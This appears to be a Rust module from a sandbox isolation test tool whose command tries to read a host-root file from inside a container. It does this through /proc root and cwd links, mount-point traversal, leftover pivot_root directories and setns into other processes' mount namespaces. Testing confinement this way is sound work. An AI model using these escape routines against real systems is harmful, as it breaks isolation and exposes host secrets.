//! Magic links of /proc and mounts that lead to the host's root; what is left of the old root after a pivot.

use std::fs;

use nix::sched::{CloneFlags, setns};

use crate::{Attempt, Report, Why, text};

/// `attack roots SECRET`: a file of the host's root.
pub(crate) fn attack(report: &Report, arguments: &[String]) {
    let secret = text(arguments, 0);
    for link in ["root", "cwd"] {
        report.line(format_args!("proc-{link}"), through_processes(link, secret));
    }
    report.line("mounts", through_mounts(secret));
    report.line("old-root", through_old_roots(secret));
    report.line("setns", by_setns(secret));
}

fn pids() -> impl Iterator<Item = String> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries
        .filter_map(|entry| entry.file_name().into_string().ok())
        .filter(|name| name.bytes().all(|byte| byte.is_ascii_digit()))
}

fn read(path: String) -> Option<String> {
    fs::read_to_string(&path)
        .ok()
        .map(|text| format!("{path}: {text}"))
}

fn through_processes(link: &str, secret: &str) -> Attempt {
    let mut seen = 0;
    for pid in pids() {
        seen += 1;
        let rest = secret.trim_start_matches('/');
        for up in ["", "../../../../"] {
            if let Some(text) = read(format!("/proc/{pid}/{link}/{up}{rest}")) {
                return Ok(text);
            }
        }
    }
    Err(format!("{seen} processes are seen"))
}

/// Every mount there is, and what is above it.
fn through_mounts(secret: &str) -> Attempt {
    let mounts = fs::read_to_string("/proc/self/mountinfo").why()?;
    let points = mounts.lines().filter_map(|line| line.split(' ').nth(4));
    let mut seen = 0;
    for point in points {
        seen += 1;
        for up in ["", "/..", "/../..", "/../../../.."] {
            if let Some(text) = read(format!("{point}{up}{secret}")) {
                return Ok(text);
            }
        }
    }
    Err(format!("{seen} mounts"))
}

fn through_old_roots(secret: &str) -> Attempt {
    let places = [
        "/oldroot",
        "/old_root",
        "/.pivot_root",
        "/put_old",
        "/host",
        "/mnt",
        "",
    ];
    let found = places
        .iter()
        .find_map(|place| read(format!("{place}{secret}")));
    found.ok_or_else(|| "nowhere".into())
}

/// Into the mount namespace of any process that is seen.
fn by_setns(secret: &str) -> Attempt {
    let mut last = "nobody is seen".to_owned();
    for pid in pids() {
        let outcome = fs::File::open(format!("/proc/{pid}/ns/mnt"))
            .why()
            .and_then(|namespace| setns(namespace, CloneFlags::CLONE_NEWNS).why())
            .and_then(|()| fs::read_to_string(secret).why());
        match outcome {
            Ok(text) => return Ok(text),
            Err(why) => last = why,
        }
    }
    Err(last)
}
